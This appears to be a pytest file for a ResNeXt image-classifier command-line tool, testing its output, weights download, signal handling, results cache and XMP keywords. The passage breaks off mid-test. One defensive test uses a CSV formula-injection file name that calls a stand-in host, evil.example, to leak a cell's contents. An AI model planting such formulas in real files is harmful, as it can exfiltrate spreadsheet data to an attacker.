"""The `classify` and `weights` commands keep their contract: through the CLI's own entry point, and as a process where that is the point."""

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import torch

from tests.support.helpers import REPO, WeightsServer, run_cli


@pytest.fixture(scope="module")
def tree(tmp_path_factory, photos):
    """A folder with two same-named photos in different subfolders, a non-image, and a loose file."""
    root = tmp_path_factory.mktemp("tree")
    (root / "album" / "2024").mkdir(parents=True)
    shutil.copy(photos["chelsea"], root / "album" / "cat.png")
    shutil.copy(photos["coffee"], root / "album" / "2024" / "cat.png")
    (root / "album" / "readme.txt").write_text("skip me")
    shutil.copy(photos["rocket_jpg"], root / "rocket.jpg")
    return root


def lines(stdout):
    return [json.loads(line) for line in stdout.splitlines()]


def test_classify_contract_jsonl(checkpoint, tree, tmp_path):
    broken = tmp_path / "broken.jpg"
    broken.write_bytes(tree.joinpath("rocket.jpg").read_bytes()[:300])
    r = run_cli("classify", "--weights", checkpoint, tree / "album", tree / "rocket.jpg", broken, tmp_path / "nope.png")
    assert r.returncode == 1, r.stderr
    assert "Traceback" not in r.stderr
    out = lines(r.stdout)
    assert [o["path"] for o in out] == [
        str(tree / "album" / "2024" / "cat.png"),
        str(tree / "album" / "cat.png"),
        str(tree / "rocket.jpg"),
        str(broken),
        str(tmp_path / "nope.png"),
    ]
    assert [o["ok"] for o in out] == [True, True, True, False, False]
    good = out[0]
    assert set(good) == {"path", "ok", "top", "device", "ms"}
    assert [t["rank"] for t in good["top"]] == [1, 2, 3, 4, 5]
    from torchvision.models import ResNeXt50_32X4D_Weights

    names = ResNeXt50_32X4D_Weights.IMAGENET1K_V2.meta["categories"]
    assert all(t["label"] == names[t["index"]] for t in good["top"])
    assert good["device"] == "cpu" and good["ms"] > 0
    assert "truncated" in out[3]["error"] and "does not exist" in out[4]["error"]


def test_classify_csv_topk_and_exit_zero(checkpoint, tree):
    r = run_cli("classify", "--weights", checkpoint, "--format", "csv", "--topk", "3", tree / "rocket.jpg")
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert len(rows) == 1 and rows[0]["ok"] == "True" and rows[0]["label3"] and "label4" not in rows[0]


def test_cam_dir_names_never_collide(checkpoint, tree, tmp_path):
    cams = tmp_path / "cams"
    r = run_cli("classify", "--weights", checkpoint, "--cam-dir", cams, "--batch-size", "2", tree / "album")
    assert r.returncode == 0, r.stderr
    out = lines(r.stdout)
    pngs = {o["cam_png"] for o in out}
    assert len(pngs) == 2 and all(os.path.isfile(p) for p in pngs)
    for o in out:
        m = np.load(o["cam_npy"])
        assert m.shape == (7, 7) and m.dtype == np.float32 and m.min() >= 0 and m.max() == pytest.approx(1)


def test_layer_option_sets_map_resolution(checkpoint, tree, tmp_path):
    r = run_cli("classify", "--weights", checkpoint, "--layer", "layer2", "--cam-dir", tmp_path, tree / "rocket.jpg")
    assert r.returncode == 0, r.stderr
    assert np.load(lines(r.stdout)[0]["cam_npy"]).shape == (28, 28)


def test_no_weights_exit_2_with_both_ways_out(tree):
    r = run_cli("classify", tree / "rocket.jpg")
    assert r.returncode == 2 and r.stdout == ""
    assert "resnext-gui weights fetch" in r.stderr and "--weights FILE" in r.stderr
    assert "Traceback" not in r.stderr


def test_bad_checkpoints_exit_2_without_traceback(tmp_path, tree):
    empty = tmp_path / "empty.pth"
    empty.write_bytes(b"")
    other = tmp_path / "resnet18.pth"
    from torchvision.models import resnet18

    torch.save(resnet18(weights=None).state_dict(), other)
    for path, words in ((empty, "empty"), (other, "not a ResNeXt-50")):
        r = run_cli("classify", "--weights", path, tree / "rocket.jpg")
        assert r.returncode == 2 and words in r.stderr and "Traceback" not in r.stderr


@pytest.mark.skipif(torch.cuda.is_available(), reason="needs a machine without CUDA")
def test_missing_cuda_is_a_clear_error(checkpoint, tree):
    r = run_cli("classify", "--weights", checkpoint, "--device", "cuda", tree / "rocket.jpg")
    assert r.returncode == 2 and "no CUDA GPU" in r.stderr and "Traceback" not in r.stderr


def test_weights_fetch_and_info(tmp_path, checkpoint, checkpoint_is_v2, capsys, monkeypatch):
    from resnext_gui.cli import main

    payload = checkpoint_is_v2
    cache = tmp_path / "torch" / "hub" / "checkpoints"
    with WeightsServer({"mirror.pth": payload, "other.pth": payload[:-1] + b"x"}) as srv:
        assert main(["weights", "fetch", "--url", f"{srv.base}/other.pth"]) == 2
        assert "checksum" in capsys.readouterr().err
        assert not cache.exists() or list(cache.iterdir()) == []
        monkeypatch.setenv("TORCH_HOME", str(tmp_path / "torch"))
        assert main(["weights", "fetch", "--url", f"{srv.base}/mirror.pth"]) == 0
    saved = cache / "resnext50_32x4d-1a0047aa.pth"
    assert saved.read_bytes() == payload
    info = run_cli("weights", "info", env={"TORCH_HOME": str(tmp_path / "torch")})
    assert info.returncode == 0, info.stderr
    got = json.loads(info.stdout)
    assert got["path"] == str(saved) and got["origin"] == "torch hub cache" and got["size_bytes"] == len(payload)
    assert got["variant"] == "IMAGENET1K_V2"
    # and classify now finds them with no flag at all
    c = run_cli("classify", REPO / "tests" / "support" / "helpers.py", env={"TORCH_HOME": str(tmp_path / "torch")})
    assert c.returncode == 1 and "not an image" in lines(c.stdout)[0]["error"]


def test_weights_fetch_failures_are_one_message_and_exit_2(tmp_path, monkeypatch, checkpoint_is_v2, capsys):
    from resnext_gui.cli import main
    from resnext_gui.core import weights as W

    monkeypatch.setenv("TORCH_HOME", str(tmp_path / "torch"))
    with WeightsServer({"mirror.pth": checkpoint_is_v2}) as srv:
        assert main(["weights", "fetch", "--url", f"{srv.base}/chunked-drop/mirror.pth"]) == 2
        err = capsys.readouterr().err
        assert "cut off" in err and "nothing was saved" in err
        monkeypatch.setenv(W.ENV_MIRROR, f"{srv.base}/{W.VARIANTS['v1'].filename}")
        assert main(["weights", "fetch", "--variant", "v2"]) == 2  # the URL must not swap the variant
        assert "names the v1 weights" in capsys.readouterr().err
    assert not (tmp_path / "torch" / "hub" / "checkpoints").exists() or \
        list((tmp_path / "torch" / "hub" / "checkpoints").iterdir()) == []
    blocker = tmp_path / "not a folder"
    blocker.write_bytes(b"")
    monkeypatch.delenv(W.ENV_MIRROR)
    monkeypatch.setenv("TORCH_HOME", str(blocker))
    assert main(["weights", "fetch", "--url", "http://127.0.0.1:9/mirror.pth"]) == 2
    assert "cannot save" in capsys.readouterr().err


def test_ctrl_c_keeps_every_finished_line(checkpoint, tree):
    photos = [tree / "rocket.jpg"] * 200
    proc = subprocess.Popen(
        [sys.executable, "-m", "resnext_gui", "classify", "--weights", str(checkpoint), *map(str, photos)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=REPO,
    )
    first = proc.stdout.readline()  # streamed: the first answer arrives while the rest still run
    assert json.loads(first)["ok"]
    proc.send_signal(signal.SIGINT)
    rest, err = proc.communicate(timeout=60)
    assert proc.returncode == 130 and "Traceback" not in err
    done = [json.loads(line) for line in (first + rest).splitlines()]
    assert 1 <= len(done) < 200 and all(d["ok"] for d in done)


def test_self_test_from_source(checkpoint):
    r = run_cli("--self-test", env={"RESNEXT_GUI_WEIGHTS": str(checkpoint)})
    assert r.returncode == 0, r.stderr
    summary = json.loads(r.stdout.splitlines()[-1])
    assert summary["ok"] and not summary["frozen"] and summary["cam"]["shape"] == [5, 7, 7]
    assert summary["window"].startswith("opened")


def run_cli_bytes(*args, env=None, cwd=None, timeout=180) -> subprocess.CompletedProcess:
    """Like run_cli, but stdout comes back as bytes (to check the encoding itself), the worktree's package first."""
    return subprocess.run(
        [sys.executable, "-m", "resnext_gui", *map(str, args)],
        capture_output=True,
        env={**os.environ, "PYTHONPATH": str(REPO), **(env or {})},
        timeout=timeout,
        cwd=cwd or REPO,
    )


def test_csv_output_neutralises_formulas_in_file_names(checkpoint, photos, tmp_path):
    evil = '=HYPERLINK("evil.example?"&A1,"click")'  # no slash: it is a file name
    shutil.copy(photos["coffee"], tmp_path / f"{evil}.png")
    (tmp_path / "@SUM(1+1).jpg").write_text("not a photo")
    r = run_cli_bytes("classify", "--weights", checkpoint, "--format", "csv", f"{evil}.png", "@SUM(1+1).jpg", cwd=tmp_path)
    assert r.returncode == 1, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout.decode("utf-8"), newline="")))
    assert [row["path"] for row in rows] == [f"'{evil}.png", "'@SUM(1+1).jpg"]
    assert rows[0]["ok"] == "True" and rows[1]["error"].startswith("'@SUM(1+1).jpg is not an image")
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())


@pytest.fixture(scope="module")
def odd_names(tmp_path_factory, photos):
    """A folder of photos whose names are not valid UTF-8 or hold Unicode line separators."""
    folder = tmp_path_factory.mktemp("odd names")
    names = [b"caf\xe9 latin-1.png", b"\xff\xfe raw bytes.png", "line\u2028sep\u2029para\u0085nel.png".encode()]
    data = photos["coffee"].read_bytes()
    for name in names:
        with open(os.path.join(os.fsencode(folder), name), "wb") as fh:
            fh.write(data)
    return folder, names


@pytest.mark.parametrize("fmt,lc_all", [("jsonl", "C"), ("csv", "C.UTF-8"), ("jsonl", "C.UTF-8")])
def test_output_is_valid_utf8_whatever_the_file_names(checkpoint, odd_names, fmt, lc_all):
    folder, names = odd_names
    r = run_cli_bytes("classify", "--weights", checkpoint, "--format", fmt, folder,
                      env={"LC_ALL": lc_all, "LANG": lc_all, "PYTHONUTF8": "", "PYTHONIOENCODING": ""})
    assert r.returncode == 0, r.stderr.decode("utf-8", "replace")
    text = r.stdout.decode("utf-8")  # strict: raises on any invalid byte
    if fmt == "csv":
        got = list(csv.DictReader(io.StringIO(text, newline="")))
    else:
        assert not any(c in text for c in "\u2028\u2029\u0085")
        got = [json.loads(line) for line in text.split("\n") if line]
    assert len(got) == len(names)
    by_bytes = {}
    for rec in got:
        if rec.get("path_bytes"):
            assert "\ufffd" in rec["path"]
            by_bytes[bytes.fromhex(rec["path_bytes"])] = rec
        else:
            by_bytes[os.fsencode(rec["path"])] = rec
    assert set(by_bytes) == {os.path.join(os.fsencode(folder), n) for n in names}
    assert all(str(rec["ok"]) == "True" for rec in got)


def test_pipes_devices_and_empty_folders(checkpoint, photos, tmp_path):
    """/dev/stdin, a FIFO and /dev/zero are answered without blocking; an empty folder is a warning."""
    fifo = tmp_path / "pipe.png"
    os.mkfifo(fifo)
    empty = tmp_path / "empty folder"
    empty.mkdir()
    (tmp_path / "no images").mkdir()
    (tmp_path / "no images" / "notes.txt").write_text("hello")
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.copy(photos["coffee"], outside / "away.png")
    album = tmp_path / "album"
    album.mkdir()
    shutil.copy(photos["coffee"], album / "home.png")
    (album / "link out").symlink_to(outside)
    proc = subprocess.run(
        [sys.executable, "-m", "resnext_gui", "classify", "--weights", str(checkpoint), str(fifo), "/dev/stdin",
         "/dev/zero", str(empty), str(tmp_path / "no images"), str(album)],
        stdin=subprocess.PIPE, capture_output=True, text=True, cwd=REPO, timeout=180,
    )  # stdin stays open and empty: reading it would block until the timeout
    assert proc.returncode == 1, proc.stderr
    out = lines(proc.stdout)
    assert [o["ok"] for o in out] == [False, False, False, True]
    assert all("is not a regular file" in o["error"] for o in out[:3])
    assert f"{empty} holds no images" in proc.stderr and "no images holds no images" in proc.stderr
    assert f"skipped {album / 'link out'}: is a link that leads outside the folder" in proc.stderr
    assert "1 folders or links skipped" in proc.stderr and "Traceback" not in proc.stderr
    r = run_cli("classify", "--weights", checkpoint, empty)
    assert r.returncode == 1 and "nothing to classify" in r.stderr and r.stdout == ""


def test_unreadable_folder_is_warned_counted_and_fails_the_run(checkpoint, photos, tmp_path, monkeypatch, capsys):
    from resnext_gui.cli import main

    (tmp_path / "locked").mkdir()
    shutil.copy(photos["coffee"], tmp_path / "ok.png")
    real = os.scandir

    def scandir(path="."):
        if os.fspath(path).endswith("locked"):
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    assert main(["classify", "--weights", str(checkpoint), str(tmp_path)]) == 1
    captured = capsys.readouterr()
    assert [o["ok"] for o in lines(captured.out)] == [True]
    assert f"skipped {tmp_path / 'locked'}: cannot be read: Permission denied" in captured.err
    assert "(1 could not be read)" in captured.err


def test_cam_dir_is_checked_before_the_model_loads(checkpoint, photos, tmp_path):
    a_file = tmp_path / "a file"
    a_file.write_text("x")
    for cam_dir, words in ((a_file, "is not a folder"), (a_file / "sub", "cannot be created")):
        r = run_cli("classify", "--weights", tmp_path / "no such weights.pth", "--cam-dir", cam_dir, photos["coffee"])
        assert r.returncode == 2 and words in r.stderr and "Traceback" not in r.stderr
        assert "loading the model" not in r.stderr  # refused before: a missing checkpoint is not even noticed


def test_cam_files_are_atomic_short_and_never_follow_links(checkpoint, photos, tmp_path, monkeypatch, capsys):
    from resnext_gui import cli

    long_name = tmp_path / ("é" * 120 + "x" * 11 + ".png")  # 251 + 4 = 255 bytes, the longest a name can be
    assert len(os.fsencode(long_name.name)) == 255
    shutil.copy(photos["coffee"], long_name)
    shutil.copy(photos["chelsea"], tmp_path / "cat.png")
    cams = tmp_path / "cams"
    cams.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("must stay")
    (cams / "cat.cam.png").symlink_to(victim)  # planted at the name the map will get
    assert cli.main(["classify", "--weights", str(checkpoint), "--cam-dir", str(cams), str(long_name),
                     str(tmp_path / "cat.png")]) == 0
    out = lines(capsys.readouterr().out)
    assert all(o["ok"] for o in out)
    assert victim.read_text() == "must stay" and not (cams / "cat.cam.png").is_symlink()
    assert all(len(os.fsencode(Path(o["cam_png"]).name)) <= 255 for o in out)
    assert sorted(p.name for p in cams.iterdir() if p.name.startswith(".")) == []

    def disk_full(array, fh, text=None):
        fh.write(b"\x89PNG partial")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("resnext_gui.core.overlay.save_png", disk_full)
    full = tmp_path / "full"
    full.mkdir()
    assert cli.main(["classify", "--weights", str(checkpoint), "--cam-dir", str(full), str(tmp_path / "cat.png")]) == 1
    out = lines(capsys.readouterr().out)
    assert not out[0]["ok"] and "cannot write its Grad-CAM: No space left on device" in out[0]["error"]
    assert list(full.iterdir()) == []  # no empty or partial file left


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_stdout_full_or_closed_is_one_clear_line(checkpoint, photos):
    with open("/dev/full", "w") as full:
        proc = subprocess.run([sys.executable, "-m", "resnext_gui", "classify", "--weights", str(checkpoint),
                               str(photos["coffee"])], stdout=full, stderr=subprocess.PIPE, text=True, cwd=REPO,
                              timeout=180)
    assert proc.returncode == 1
    assert "cannot write the results to standard output: No space left on device" in proc.stderr
    assert "Traceback" not in proc.stderr and "Exception ignored" not in proc.stderr
    closed = subprocess.run(f'"{sys.executable}" -m resnext_gui classify --weights "{checkpoint}" "{photos["coffee"]}" >&-',
                            shell=True, capture_output=True, text=True, cwd=REPO, timeout=180)
    assert closed.returncode == 1 and "standard output is closed" in closed.stderr
    assert "Traceback" not in closed.stderr


def test_batch_size_over_the_cap_works_with_a_note(checkpoint, photos):
    r = run_cli("classify", "--weights", checkpoint, "--batch-size", "300", photos["coffee"], photos["chelsea"])
    assert r.returncode == 0, r.stderr
    assert "--batch-size 300 is capped at 64" in r.stderr and len(lines(r.stdout)) == 2


# ---- the results library (--library) and keywords (--xmp) ----

@pytest.fixture(scope="module")
def album(tmp_path_factory, photos):
    """30 small JPEGs, each with its own content (a copy would be recognised by its bytes and answered from the library)."""
    from PIL import Image

    root = tmp_path_factory.mktemp("album")
    sources = [Image.open(p).convert("RGB").resize((256, 192)) for p in photos.values()]
    out = []
    for i in range(30):
        im = sources[i % len(sources)].rotate(7 * (i // len(sources)), expand=False)
        path = root / f"IMG_{i:04}.jpg"
        im.save(path, quality=85)
        out.append(path)
    return out


@pytest.fixture
def forward_passes(monkeypatch):
    """How many photos the network answered (Classifier._answers, where every batch's outputs become
    predictions), counted in this process."""
    from resnext_gui.core.classifier import Classifier

    count = {"photos": 0}
    real = Classifier._answers

    def counting(self, items, *args, **kwargs):
        count["photos"] += len(items)
        return real(self, items, *args, **kwargs)

    monkeypatch.setattr(Classifier, "_answers", counting)
    return count


def test_library_grown_folder_changed_file_and_other_weights(checkpoint, album, tmp_path, forward_passes):
    import torch

    folder = tmp_path / "photos"
    folder.mkdir()
    for p in album[:2]:
        shutil.copy(p, folder / p.name)
    lib = tmp_path / "library.sqlite3"
    r = run_cli("classify", "--weights", checkpoint, "--library-path", lib, folder)
    assert r.returncode == 0, r.stderr
    assert forward_passes["photos"] == 2 and not any("cached" in o for o in lines(r.stdout))

    for p in album[2:12]:  # the folder grows by ten photos
        shutil.copy(p, folder / p.name)
    forward_passes["photos"] = 0
    r = run_cli("classify", "--weights", checkpoint, "--library-path", lib, "--batch-size", "4", folder)
    assert r.returncode == 0, r.stderr
    out = lines(r.stdout)
    assert forward_passes["photos"] == 10
    assert [o["path"] for o in out] == sorted(str(folder / p.name) for p in album[:12])  # in order, as without it
    assert [o.get("cached", False) for o in out] == [True, True] + [False] * 10
    assert "2 answered from the results library, 10 classified" in r.stderr
    first = out[0]
    assert set(first) == {"path", "ok", "top", "device", "ms", "cached"} and len(first["top"]) == 5

    changed = folder / album[0].name  # same path, new content
    shutil.copy(album[20], changed)
    forward_passes["photos"] = 0
    r = run_cli("classify", "--weights", checkpoint, "--library", "--library-path", lib, "--topk", "3", folder)
    assert r.returncode == 0, r.stderr
    out = lines(r.stdout)
    assert forward_passes["photos"] == 1
    assert [o["path"] for o in out if not o.get("cached")] == [str(changed)]
    assert all(len(o["top"]) == 3 for o in out)  # fewer classes than stored: cut from what was kept

    other = tmp_path / "same-weights-other-file.pth"  # other checkpoint bytes (hence sha256), same numbers
    torch.save(torch.load(checkpoint, weights_only=True), other)
    forward_passes["photos"] = 0
    r = run_cli("classify", "--weights", other, "--backend", "torch", "--library-path", lib, *sorted(folder.iterdir())[:2])
    assert r.returncode == 0, r.stderr
    assert forward_passes["photos"] == 2 and not any(o.get("cached") for o in lines(r.stdout))


def test_library_killed_mid_run_loses_no_printed_answer(checkpoint, album, tmp_path, forward_passes):
    lib = tmp_path / "library.sqlite3"
    proc = subprocess.Popen(
        [sys.executable, "-m", "resnext_gui", "classify", "--weights", str(checkpoint), "--library-path", str(lib),
         "--batch-size", "1", *map(str, album)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=REPO,
    )
    printed = [json.loads(proc.stdout.readline()) for _ in range(3)]
    proc.kill()  # SIGKILL: no handler runs, nothing is flushed or closed
    proc.communicate(timeout=60)
    assert proc.returncode == -signal.SIGKILL
    assert all(o["ok"] for o in printed)
    r = run_cli("classify", "--weights", checkpoint, "--library-path", lib, *[o["path"] for o in printed])
    assert r.returncode == 0, r.stderr
    again = lines(r.stdout)
    assert forward_passes["photos"] == 0
    assert [o["path"] for o in again] == [o["path"] for o in printed] and all(o["cached"] for o in again)
    assert [o["top"] for o in again] == [o["top"] for o in printed]


def test_library_photo_rewritten_in_place_with_its_mtime_restored_is_classified_again(checkpoint, photos, tmp_path):
    from PIL import Image

    def bmp(name, source):  # BMPs of one size have one byte size
        path = tmp_path / name
        Image.open(photos[source]).convert("RGB").resize((256, 192)).save(path)
        return path

    photo, coffee = bmp("photo.bmp", "chelsea"), bmp("coffee.bmp", "coffee")
    assert photo.stat().st_size == coffee.stat().st_size
    lib = tmp_path / "library.sqlite3"
    first = run_cli("classify", "--weights", checkpoint, "--library-path", lib, photo)
    assert first.returncode == 0, first.stderr
    fresh = lines(run_cli("classify", "--weights", checkpoint, coffee).stdout)[0]
    st = photo.stat()
    photo.write_bytes(coffee.read_bytes())  # another photo's pixels, at the same size...
    os.utime(photo, ns=(st.st_atime_ns, st.st_mtime_ns))  # ...and its mtime restored, as `touch -r` does
    again = run_cli("classify", "--weights", checkpoint, "--library-path", lib, photo)
    assert again.returncode == 0, again.stderr
    assert "0 answered from the results library, 1 classified" in again.stderr
    (out,) = lines(again.stdout)
    assert "cached" not in out and out["top"] == fresh["top"] != lines(first.stdout)[0]["top"]


def test_library_damaged_in_the_middle_is_set_aside_and_said_once_with_its_new_name(checkpoint, album, tmp_path):
    import numpy as np

    lib = tmp_path / "library.sqlite3"
    r = run_cli("classify", "--weights", checkpoint, "--library-path", lib, *album[:12])
    assert r.returncode == 0, r.stderr
    data = bytearray(lib.read_bytes())
    middle = len(data) // 2
    data[middle : middle + 8192] = np.random.default_rng(0).bytes(8192)  # 8 KB of random bytes, mid-file
    lib.write_bytes(bytes(data))
    r = run_cli("classify", "--weights", checkpoint, "--library-path", lib, *album[:12])
    assert r.returncode == 0, r.stderr
    assert len(lines(r.stdout)) == 12 and all(o["ok"] for o in lines(r.stdout))
    aside = [f for f in os.listdir(tmp_path) if f.startswith("library.sqlite3.damaged-")]
    said = [line for line in r.stderr.splitlines() if "set aside" in line]
    assert len(aside) == 1 and len(said) == 1, r.stderr
    assert f"set aside as {aside[0]}" in said[0] and str(lib) in said[0] and "damaged" in said[0]


def test_library_path_naming_a_users_file_leaves_it_untouched_and_says_so_once(checkpoint, album, tmp_path):
    notes = tmp_path / "notes"
    notes.mkdir()
    thesis = notes / "thesis.txt"  # `--library-path notes/thesis.txt`: a mistyped argument
    thesis.write_text("Chapter 1\n\nWhat I found.\n" * 100)
    before = thesis.read_bytes()
    r = run_cli("classify", "--weights", checkpoint, "--library-path", thesis, *album[:3])
    assert r.returncode == 0, r.stderr
    assert len(lines(r.stdout)) == 3
    said = [line for line in r.stderr.splitlines() if str(thesis) in line]
    assert len(said) == 1 and "not a resnext-gui results library" in said[0] and "left untouched" in said[0]
    assert "kept only until the app closes" in said[0]
    assert thesis.read_bytes() == before and os.listdir(notes) == ["thesis.txt"]


def test_xmp_keywords_from_classify(checkpoint, album, tmp_path):
    from resnext_gui.core.xmp import keywords_for, sidecar_path
    from tests.unit.core.test_xmp import keywords_read_back

    good, bad = tmp_path / "é good.jpg", tmp_path / "bad.jpg"
    shutil.copy(album[0], good)
    shutil.copy(album[1], bad)
    garbage = b"not an xmp file at all" * 20
    sidecar_path(bad).write_bytes(garbage)
    r = run_cli("classify", "--weights", checkpoint, "--xmp", "--xmp-min-prob", "0", good, bad)
    assert r.returncode == 1, r.stderr  # a photo without its keywords fails the run; the others are written
    first, second = lines(r.stdout)
    assert first["ok"] and first["xmp"] == str(sidecar_path(good))
    words = keywords_for(first["top"], 0.0)
    assert len(words) == 5  # every class is at least 0 probable
    assert keywords_read_back(sidecar_path(good)) == (words, [f"ResNeXt|{w}" for w in words])
    assert second["ok"] and "bad.jpg.xmp is not an XMP file" in second["xmp_error"] and "xmp" not in second
    assert f"{bad}: keywords not written" in r.stderr
    assert sidecar_path(bad).read_bytes() == garbage


def test_xmp_a_folder_at_a_sidecars_name_is_that_photos_error_and_the_batch_goes_on(checkpoint, album, tmp_path):
    from resnext_gui.core.xmp import sidecar_path

    folder = tmp_path / "photos"
    folder.mkdir()
    for p in album[:19]:
        shutil.copy(p, folder / p.name)
    odd = folder / album[8].name
    sidecar_path(odd).mkdir()  # `mkdir photo.jpg.xmp`
    r = run_cli("classify", "--weights", checkpoint, "--xmp", folder)
    assert r.returncode == 1, r.stderr
    assert "Traceback" not in r.stderr
    out = lines(r.stdout)
    assert len(out) == 19 and all(o["ok"] for o in out)  # every photo answered
    failed = [o for o in out if "xmp_error" in o]
    assert [o["path"] for o in failed] == [str(odd)] and "is a folder, not a regular file" in failed[0]["xmp_error"]
    assert all(o.get("xmp") == str(sidecar_path(o["path"])) for o in out if o is not failed[0])
    assert sidecar_path(odd).is_dir()


def test_sigterm_stops_classify_xmp_among_sidecars_with_many_keywords(checkpoint, album, tmp_path):
    """Every photo's sidecar holds 1.2 million keywords (31 MB): each is refused after a count of its entries, so
    the run moves from photo to photo, and SIGTERM after the first answer ends it at once, with 143. (Merged, one
    such sidecar kept exiv2 busy for over ten minutes, deaf to SIGTERM.) The waits are guards against a hang."""
    import queue
    import threading

    from resnext_gui.core.xmp import sidecar_path
    from tests.unit.core.test_xmp import sidecar_with

    folder = tmp_path / "photos"
    folder.mkdir()
    big = tmp_path / "many.xmp"
    big.write_bytes(sidecar_with(keywords=1_200_000))
    photos = []
    for i in range(60):
        photo = folder / f"p{i:03}.jpg"
        shutil.copy(album[i % len(album)], photo)
        os.link(big, sidecar_path(photo))  # the same 31 MB, sixty times
        photos.append(photo)
    proc = subprocess.Popen([sys.executable, "-m", "resnext_gui", "classify", "--weights", str(checkpoint), "--xmp",
                             "--batch-size", "1", str(folder)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, cwd=REPO)
    printed: queue.Queue = queue.Queue()
    reader = threading.Thread(target=lambda: [printed.put(line) for line in proc.stdout], daemon=True)
    reader.start()
    try:
        first = json.loads(printed.get(timeout=240))  # a guard: the model loads, then the first photo is answered
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=60)  # a guard against a hang, not a timing
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    reader.join(timeout=60)
    err = proc.stderr.read()
    proc.stdout.close()
    proc.stderr.close()
    rest = []
    while not printed.empty():
        rest.append(json.loads(printed.get()))
    assert proc.returncode == 143, err
    assert "terminated" in err and "Traceback" not in err
    assert 1 + len(rest) < len(photos)  # stopped, not finished
    for record in [first, *rest]:
        assert record["ok"] and "too many entries" in record["xmp_error"] and "\n" not in record["xmp_error"]
    assert big.read_bytes()[-20:] == sidecar_with(keywords=1)[-20:] and big.stat().st_nlink == 61  # untouched


@pytest.mark.parametrize("args, message", [
    (["--xmp", "--xmp-min-prob", "1.5"], "--xmp-min-prob must be a probability from 0 to 1"),
    (["--xmp", "--xmp-min-prob", "nan"], "--xmp-min-prob must be a probability from 0 to 1"),
    (["--xmp-min-prob", "0.3"], "--xmp-min-prob needs --xmp"),
    (["--library-path", "."], "is a folder"),
])
def test_library_and_xmp_options_checked_before_the_model_loads(checkpoint, photos, args, message):
    r = run_cli("classify", "--weights", checkpoint, *args, photos["coffee"])
    assert r.returncode == 2 and message in r.stderr and "loading the model" not in r.stderr


_WITH_DEFAULT_SIGINT = (  # a test runner started in the background passes SIGINT on as "ignored"
    "import os, signal, sys; signal.signal(signal.SIGINT, signal.SIG_DFL); "
    "os.execv(sys.executable, [sys.executable, '-m', 'resnext_gui', *sys.argv[1:]])"
)


def _start(*args):
    return subprocess.Popen([sys.executable, "-c", _WITH_DEFAULT_SIGINT, *map(str, args)], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, cwd=REPO)


def test_ctrl_c_while_the_model_loads_is_quiet(checkpoint, photos):
    proc = _start("classify", "--weights", checkpoint, photos["coffee"])
    for line in proc.stderr:  # wait until it says it is loading
        if "loading the model" in line:
            break
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 130 and "Traceback" not in err and "interrupted" in err


def test_sigterm_during_classify_leaves_no_half_written_maps(checkpoint, tree, tmp_path):
    cams = tmp_path / "cams"
    proc = _start("classify", "--weights", checkpoint, "--cam-dir", cams, *[tree / "rocket.jpg"] * 100)
    first = proc.stdout.readline()
    assert json.loads(first)["ok"]
    proc.send_signal(signal.SIGTERM)
    rest, err = proc.communicate(timeout=60)
    assert proc.returncode == 143 and "Traceback" not in err and "terminated" in err
    done = [json.loads(line) for line in (first + rest).splitlines()]
    assert 1 <= len(done) < 100
    written = {p.name for p in cams.iterdir()}
    listed = {Path(d[k]).name for d in done for k in ("cam_png", "cam_npy")}
    assert listed <= written and not any(name.startswith(".") for name in written)  # no temporary file left
    for name in written:  # and every map there is whole (one may be finished but not yet reported)
        if name.endswith(".npy"):
            assert np.load(cams / name).shape == (7, 7)
            assert (cams / name.replace(".npy", ".png")).exists()
        else:
            from PIL import Image

            with Image.open(cams / name) as im:
                im.load()


@pytest.mark.parametrize("args", [["--version"], ["classify", "--version"], ["weights", "fetch", "--version"],
                                  ["photo.jpg", "--version"]])
def test_version_without_torch_or_qt(args):
    """`--version` prints the package's version and exits 0, without loading torch, Qt or OpenVINO."""
    import re
    from importlib.metadata import version

    declared = re.search(r'^version = "([^"]+)"', (REPO / "pyproject.toml").read_text(), re.M).group(1)
    assert version("resnext-gui") == declared  # the installed metadata is this tree's
    code = ("import sys\nfrom resnext_gui.__main__ import main\ntry:\n    code = main(sys.argv[1:])\n"
            "except SystemExit as exc:\n    code = exc.code\n"
            "print(sorted(m for m in ('torch', 'PySide6', 'openvino') if m in sys.modules))\nsys.exit(code)")
    r = subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True, timeout=60, cwd=REPO)
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines() == [f"resnext-gui {declared}", "[]"]


def test_version_falls_back_to_the_source_tree_without_metadata(monkeypatch):
    """The frozen app carries no distribution metadata: the version comes from the package itself."""
    import importlib.metadata

    import resnext_gui

    def missing(name):
        raise importlib.metadata.PackageNotFoundError(name)

    monkeypatch.setattr(importlib.metadata, "version", missing)
    assert resnext_gui.version_line() == f"resnext-gui {resnext_gui.__version__}"
    assert f'version = "{resnext_gui.__version__}"' in (REPO / "pyproject.toml").read_text()  # the two agree


def test_cam_method_names_the_files_the_record_and_the_png(checkpoint, tree, tmp_path):
    from PIL import Image

    r = run_cli("classify", "--weights", checkpoint, "--cam-method", "layercam", "--cam-dir", tmp_path, tree / "rocket.jpg")
    assert r.returncode == 0, r.stderr
    rec = lines(r.stdout)[0]
    assert rec["cam_method"] == "layercam" and "faithfulness" not in rec
    assert Path(rec["cam_png"]).name == "rocket.layercam.cam.png" and Path(rec["cam_npy"]).name == "rocket.layercam.cam.npy"
    text = Image.open(rec["cam_png"]).text
